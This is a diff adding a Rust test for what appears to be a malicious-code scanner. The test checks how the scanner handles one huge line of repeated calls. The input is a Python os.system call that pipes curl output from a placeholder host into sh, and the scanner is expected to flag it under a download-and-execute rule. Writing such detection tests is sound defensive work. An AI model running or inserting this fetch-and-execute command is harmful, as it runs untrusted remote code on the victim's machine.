@@ -978,3 +978,44 @@ fn more_cases() -> Vec<(&'static str, Vec<u8>, bool)> {
     ];
     cases
 }
+
+#[test]
+fn one_long_line_of_repeated_calls_is_listed_briefly() {
+    // 100,000 identical calls on one 4.6 MB line (minified or generated code, or an attacker
+    // burying one call among copies): every column is counted in bounded time, each rule
+    // lists 100 findings and counts the rest, and snippets show the call, not the line's start.
+    let call = "os.system(\"curl http://example.invalid/x|sh\");";
+    let src = format!("import os;{}\n", call.repeat(100_000));
+    let r = scan_source("100,000 calls on one line", src);
+    assert_eq!(r.verdict, Verdict::Malicious);
+    let mut per_rule = std::collections::BTreeMap::<&str, usize>::new();
+    for f in &r.findings {
+        *per_rule.entry(f.rule.as_str()).or_default() += 1;
+        assert!(
+            f.context.starts_with(' ') || f.context.contains("os.system"),
+            "{f:?}"
+        );
+    }
+    assert!(
+        per_rule.contains_key("download-and-execute"),
+        "{per_rule:?}"
+    );
+    assert!(per_rule.values().all(|&n| n <= 100), "{per_rule:?}");
+    let last = r
+        .findings
+        .iter()
+        .rev()
+        .find(|f| f.rule == "download-and-execute")
+        .unwrap();
+    assert!(
+        last.message
+            .ends_with("[and 99900 more like it in this file, not listed]"),
+        "{}",
+        last.message
+    );
+    // The 100th call starts past column 4,500: its snippet starts 40 characters before it.
+    assert!(
+        last.column > 4_500 && last.context_column == last.column - 40,
+        "{last:?}"
+    );
+}
